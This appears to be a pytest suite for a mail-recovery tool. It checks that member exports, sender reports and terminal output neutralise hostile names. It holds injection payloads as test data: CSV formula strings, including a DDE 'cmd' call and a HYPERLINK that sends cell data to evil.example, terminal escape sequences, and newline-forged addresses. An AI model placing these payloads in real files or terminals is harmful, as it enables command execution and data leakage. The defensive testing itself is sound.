"""Names from sources are hostile: no export gains a line, no spreadsheet runs a formula, no
terminal obeys an escape, whatever names, addresses, folders and file names hold."""

from __future__ import annotations

import csv
import email.utils
import io
import json
import unicodedata
from datetime import UTC, datetime
from pathlib import Path

import pytest

import mailrecover.cli
from mailrecover.cli import main
from mailrecover.members import ExportFormat, export, reconstruct
from mailrecover.model import Evidence
from mailrecover.workspace import Workspace
from mailrecover.workspace.store import begin, save_evidence

LIST = "dev@lists.example.org"
ACCOUNT = "taro@example.co.jp"

#: What breaks a line or a terminal: C0 line breaks and others, DEL, C1 (NEL, CSI), the Unicode
#: line and paragraph separators, a bidi override, and a lone surrogate (from undecodable names).
CONTROLS = {
    "LF": "\n",
    "CR": "\r",
    "CRLF": "\r\n",
    "NUL": "\0",
    "TAB": "\t",
    "VT": "\v",
    "FF": "\f",
    "ESC": "\x1b",
    "FS": "\x1c",
    "DEL": "\x7f",
    "NEL": "\x85",
    "CSI": "\x9b",
    "LS": "\u2028",
    "PS": "\u2029",
    "RLO": "\u202e",
}

#: A terminal title change (OSC), a screen clear (CSI), a bidi override and a forged line: what
#: a name may carry.
ESCAPES = "\x1b]0;owned\x07\x1b[2J\u202e\nmailrecover: forged"
SHOWN = "?]0;owned??[2J??mailrecover: forged"  # the same, cleaned


def _hostile(text: str) -> list[str]:
    """The characters in ``text`` that break a line or act on a terminal (newlines excepted),
    and lines a name forged."""
    return ["forged line"] * text.count("\nmailrecover: forged") + [
        ch
        for ch in text.replace("\n", "")
        if unicodedata.category(ch) in ("Cc", "Cs", "Zl", "Zp") or ch in "\u202a\u202b\u202d\u202e"
    ]


def _ev(kind: str, address: str, day: int, list_key: str = LIST, **fields: str) -> Evidence:
    return Evidence(
        kind,
        "/var/lib/mailman/lists/dev/config.pck",
        str(day),
        datetime(2012, 3, day, tzinfo=UTC),
        {"list": list_key, "address": address, **fields},
    )


def _picture(c: str):
    """Two good members whose names carry ``c``, and two addresses that carry it."""
    return reconstruct(
        [
            _ev("member", "alice@example.org", 1, name=f"Alice{c}attacker@evil.example"),
            _ev("member", "dave@example.org", 2, name=f"Dave{c}=cmd|' /C calc'!A0"),
            _ev("member", f"bob{c}@example.org", 3),
            _ev("member", f"carol@example.org{c}attacker@evil.example", 4),
        ]
    )[LIST]


def _entries(fmt: ExportFormat, text: str) -> list[str]:
    """The addresses a list manager reads from an export, one per line as it splits lines."""
    lines = text.splitlines()  # Python splits on CR, FS, NEL, U+2028 … too: none may hide in a line
    assert lines == text.split("\n")[:-1]
    if fmt is ExportFormat.CSV:
        rows = list(csv.reader(io.StringIO(text)))
        assert rows[0][0] == "address" and all(len(r) == 9 for r in rows)
        return [r[0] for r in rows[1:]]
    if fmt is ExportFormat.FML:
        return lines
    return [email.utils.parseaddr(line)[1] for line in lines]


@pytest.mark.parametrize("name", CONTROLS)
@pytest.mark.parametrize("fmt", list(ExportFormat))
def test_no_export_carries_a_control_character_or_an_address_that_is_none(fmt, name):
    c = CONTROLS[name]
    text, left_out = export(_picture(c), fmt)
    assert _hostile(text) == []
    assert _entries(fmt, text) == ["alice@example.org", "dave@example.org"]
    assert "\nattacker@evil.example" not in text and not text.startswith("attacker")
    assert sorted(p.reason for p in left_out) == sorted(
        f"left out of the export of {LIST}: {a!r} is not an address a list manager can take"
        for a in (f"bob{c}@example.org", f"carol@example.org{c}attacker@evil.example")
    )
    assert all(p.source.endswith("config.pck") for p in left_out)


@pytest.mark.parametrize(
    "address",
    [
        '"a b"@example.org',
        "a@b@example.org",
        "a..b@example.org",
        ".a@example.org",
        "a@-example.org",
        "a@example..org",
        "a@[127.0.0.1]",
        "a b@example.org",
        "<a@example.org>",
        "a@",
        "@example.org",
        "a",
    ],
)
def test_an_address_that_is_no_plain_addr_spec_is_left_out(address):
    picture = reconstruct([_ev("member", address, 1), _ev("member", "ok@example.org", 2)])[LIST]
    for fmt in ExportFormat:
        text, left_out = export(picture, fmt)
        assert _entries(fmt, text) == ["ok@example.org"] and len(left_out) == 1


def test_international_addresses_stay():
    picture = reconstruct(
        [_ev("member", "太郎@例え.jp", 1, name="山田 太郎"), _ev("member", "o'neil+ml@example.org", 2)]
    )[LIST]
    for fmt in ExportFormat:
        text, left_out = export(picture, fmt)
        assert sorted(_entries(fmt, text)) == ["o'neil+ml@example.org", "太郎@例え.jp"] and left_out == []


def _workspace(tmp_path: Path, evidence: list[Evidence]) -> Path:
    """A workspace holding ``evidence`` as a list plugin (or a log plugin) stored it."""
    ws = tmp_path / "ws"
    with Workspace(ws) as w:
        loc = w.location("/var/lib/mailman", "mailman2", list_address=LIST)
        begin(w.db)
        for e in evidence:
            save_evidence(w.db, loc, "", LIST, e)
        w.commit()
    return ws


@pytest.mark.parametrize("fmt", [f.value for f in ExportFormat])
def test_members_export_through_the_command_line_shows_what_it_left_out_and_exits_3(fmt, tmp_path, capsys):
    ws = _workspace(
        tmp_path,
        [
            _ev("member", "alice@example.org", 1, name="Alice\nattacker@evil.example"),
            _ev("member", "bob\r@example.org", 2, name="Bob"),
        ],
    )
    assert main(["--workspace", str(ws), "members", "--list", LIST, "--format", fmt]) == 3
    out = capsys.readouterr()
    assert _entries(ExportFormat(fmt), out.out) == ["alice@example.org"] and _hostile(out.out) == []
    assert (
        out.err.count("\n") == 1 and "mailrecover: skipped:" in out.err and "'bob\\r@example.org'" in out.err
    )


# --- CSV cells a spreadsheet would run ------------------------------------------------------

FORMULAS = [
    '=HYPERLINK("http://evil.example/?"&A1,"click")',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1+1)",
    "\t=1+1",
    "\r=1+1",
]


def test_members_csv_neutralises_every_cell_that_would_start_a_formula():
    picture = reconstruct(
        [_ev("member", f"m{n}@example.org", n + 1, name=f) for n, f in enumerate(FORMULAS)]
        + [_ev("member", "=1+2@evil.example", 9, name="ok"), _ev("member", "-x@example.org", 10, name="ok")]
    )[LIST]
    rows = list(csv.reader(io.StringIO(export(picture, ExportFormat.CSV).text)))
    cells = [cell for row in rows for cell in row]
    assert not [c for c in cells if c[:1] in ("=", "+", "-", "@", "\t", "\r")]
    names = {r[0]: r[1] for r in rows[1:]}
    assert [names[f"m{n}@example.org"] for n in range(len(FORMULAS))] == [
        "'" + f.replace("\t", "?").replace("\r", "?") for f in FORMULAS
    ]
    assert {"'=1+2@evil.example", "'-x@example.org"} <= set(names)  # valid addresses, kept and quoted


def _deliveries(tmp_path: Path, senders: list[str]) -> Path:
    """Mail the logs show delivered to ``ACCOUNT`` from each sender, and no copy of it."""
    evidence = [
        Evidence(
            "delivery",
            "/var/log/mail.log",
            str(n),
            datetime(2012, 6, 1, 0, n, tzinfo=UTC),
            {"message_id": f"<{n}@x>", "sender": s, "recipient": ACCOUNT, "status": "sent", "relay": "local"},
        )
        for n, s in enumerate(senders)
    ]
    return _workspace(tmp_path, evidence)


def test_report_senders_neutralises_formulas_and_leaves_out_what_is_no_address(tmp_path, capsys):
    ws = _deliveries(
        tmp_path,
        [
            "=1+2@evil.example",
            "+1@evil.example",
            "ok@example.org",
            "",
            '=HYPERLINK("http://evil.example/")',
            "bob\n@example.org",
            "carol@example.org\u2028x",
        ],
    )
    assert main(["--workspace", str(ws), "report", "--account", ACCOUNT, "--senders"]) == 3
    out = capsys.readouterr()
    rows = list(csv.reader(io.StringIO(out.out)))
    assert _hostile(out.out) == [] and out.out.splitlines() == out.out.split("\n")[:-1]
    assert sorted(r[0] for r in rows[1:]) == ["", "'+1@evil.example", "'=1+2@evil.example", "ok@example.org"]
    assert out.err.count("mailrecover: skipped:") == 3 and "HYPERLINK" in out.err and _hostile(out.err) == []


# --- every command's terminal output ---------------------------------------------------------


def test_restore_dry_run_shows_hostile_folder_names_cleaned_and_json_keeps_them(tmp_path, capsys):
    maildir = tmp_path / "Maildir"
    folder = maildir / f".Work{ESCAPES}"
    for base in (maildir, folder):
        for sub in ("cur", "new", "tmp"):
            (base / sub).mkdir(parents=True)
    (folder / "cur" / "1.M1.host:2,S").write_bytes(
        b"From: a@example.org\nMessage-ID: <1@x>\nSubject: s\n\nbody\n"
    )
    ws = tmp_path / "ws"
    assert main(["--workspace", str(ws), "gather", "--account", ACCOUNT, str(maildir)]) == 0
    capsys.readouterr()
    target = f"maildir:{tmp_path / 'out'}"
    assert main(["--workspace", str(ws), "restore", "--account", ACCOUNT, "--to", target, "--dry-run"]) == 0
    out = capsys.readouterr().out
    assert _hostile(out) == [] and f"Work{SHOWN}" in out
    assert (
        main(["--workspace", str(ws), "--json", "restore", "--account", ACCOUNT, "--to", target, "--dry-run"])
        == 0
    )
    out = capsys.readouterr().out
    assert _hostile(out) == [] and list(json.loads(out)["folders"]) == [f"Work{ESCAPES}"]  # escaped, not lost
    assert main(["--workspace", str(ws), "report"]) == 0
    assert _hostile(capsys.readouterr().out) == []


def test_gather_verbose_names_hostile_files_cleaned(tmp_path, capsys):
    tree = tmp_path / "home"
    tree.mkdir()
    (tree / f"notes{ESCAPES}.txt").write_bytes(b"\x00\x01 not mail at all")
    (tree / f"cut{ESCAPES}.eml").write_bytes(b"")
    ws = tmp_path / "ws"
    assert (
        main(["--workspace", str(ws), "-v", "gather", "--account", ACCOUNT, str(tree)]) == 3
    )  # the empty .eml
    out = capsys.readouterr()
    assert "skipped (no plugin reads it)" in out.err and f"notes{SHOWN}.txt" in out.err
    assert _hostile(out.err) == [] and _hostile(out.out) == []


def test_members_names_hostile_lists_cleaned(tmp_path, capsys):
    ws = _workspace(
        tmp_path, [_ev("member", "alice@example.org", 1, list_key=f"dev{ESCAPES}@lists.example.org")]
    )
    assert main(["--workspace", str(ws), "members"]) == 0
    out = capsys.readouterr().out
    assert _hostile(out) == [] and f"dev{SHOWN}@lists.example.org  1 member" in out
    assert main(["--workspace", str(ws), "--json", "members"]) == 0
    out = capsys.readouterr().out
    assert _hostile(out) == [] and json.loads(out)[0]["list"] == f"dev{ESCAPES}@lists.example.org"


_FAKE_STORES = f"""
from mailrecover.plugin import Store

ESCAPES = {ESCAPES!r}


class FakeStores:
    \"\"\"A plugin that finds a store whose path and account are hostile (as a profile can name them).\"\"\"

    name = "fake"
    description = "finds hostile stores" + ESCAPES

    def detect(self, location):
        return 0

    def discover(self):
        return [Store("fake", "/home/x/Mail" + ESCAPES, 10, ("taro" + ESCAPES + "@example.co.jp",))]

    def read(self, location, context):
        return iter(())


class Broken:
    def __init__(self):
        raise ValueError("licence" + ESCAPES)
"""


def test_discover_and_plugins_show_hostile_names_cleaned(third_party, monkeypatch, capsys):
    """A third-party plugin's description, stores and the reason it failed to load are its own text."""
    broken = "broken\x1b[2J\u202e"  # an entry point's name is one line of entry_points.txt
    third_party({"fake": "hostile_fake:FakeStores", broken: "hostile_fake:Broken"}, hostile_fake=_FAKE_STORES)
    monkeypatch.setenv("MAILRECOVER_PLUGINS", f"fake,{broken}")
    for command in (["discover"], ["plugins"]):
        assert main(command) == 0
        out = capsys.readouterr()
        assert _hostile(out.out) == [] and _hostile(out.err) == [] and SHOWN in out.out
        assert (
            "plugin broken?[2J? not loaded" in out.err and "licence?]0;owned??[2J?" in out.err
        )  # its first line
    assert main(["--json", "discover"]) == 0
    out = capsys.readouterr().out
    assert _hostile(out) == [] and json.loads(out)[0]["hints"] == [f"taro{ESCAPES}@example.co.jp"]


def test_gather_progress_on_a_terminal_shows_hostile_file_names_cleaned(tmp_path, monkeypatch):
    """The progress line (only ever drawn on a terminal) names the file being read."""

    class _Terminal(io.StringIO):
        def isatty(self) -> bool:
            return True

    terminal = _Terminal()
    monkeypatch.setattr("sys.stderr", terminal)
    monkeypatch.setenv("COLUMNS", "200")  # a terminal wide enough for the whole name
    tree = tmp_path / "home"
    tree.mkdir()
    (tree / f"saved{ESCAPES}.eml").write_bytes(
        b"From: a@example.org\nMessage-ID: <1@x>\nSubject: s\n\nbody\n"
    )
    assert main(["--workspace", str(tmp_path / "ws"), "gather", "--account", ACCOUNT, str(tree)]) == 0
    shown = terminal.getvalue()
    assert f"saved{SHOWN}.eml" in shown and _hostile(shown.replace("\r", "")) == []


def test_the_command_line_prints_only_through_its_one_cleaning_path():
    """``cli._say`` is the only writer to the terminal: a new command cannot print raw text."""
    import ast
    import inspect

    tree = ast.parse(inspect.getsource(mailrecover.cli))
    writers = [
        (node.lineno, ast.unparse(node.func))
        for node in ast.walk(tree)
        if isinstance(node, ast.Call)
        and (
            ast.unparse(node.func) in ("print", "json.dump")
            or ast.unparse(node.func).endswith((".write", ".writelines"))
        )
    ]
    say = next(n for n in tree.body if isinstance(n, ast.FunctionDef) and n.name == "_say")
    assert [w for w in writers if not say.lineno <= w[0] <= (say.end_lineno or 0)] == []
    assert len(writers) == 1


def test_the_reported_mailman2_case_end_to_end(tmp_path, capsys):
    """A config.pck whose display names carry LF and CR, and a member address with a CR, gathered
    and exported: ``add_members`` gets exactly the real members, one per line."""
    from .support.lists_builders import mailman2_pickle, s

    d = tmp_path / "lists" / "dev"
    d.mkdir(parents=True)
    (d / "config.pck").write_bytes(
        mailman2_pickle(
            {
                s("_internal_name"): s("dev"),
                s("host_name"): s("lists.example.org"),
                s("members"): {
                    s("alice@example.org"): 0,
                    s("carol@example.org"): 0,
                    s("bob\r@example.org"): 0,
                },
                s("usernames"): {
                    s("alice@example.org"): "Alice\nattacker@evil.example",
                    s("carol@example.org"): "Carol\rmallory@evil.example",
                },
            }
        )
    )
    ws = tmp_path / "ws"
    assert main(["--workspace", str(ws), "gather", "--list", "dev@lists.example.org", str(d)]) == 0
    capsys.readouterr()
    assert (
        main(["--workspace", str(ws), "members", "--list", "dev@lists.example.org", "--format", "mailman2"])
        == 3
    )
    out = capsys.readouterr()
    assert out.out.splitlines() == [
        '"Alice?attacker@evil.example" <alice@example.org>',
        '"Carol?mallory@evil.example" <carol@example.org>',
    ]
    assert "'bob\\r@example.org'" in out.err and "config.pck" in out.err
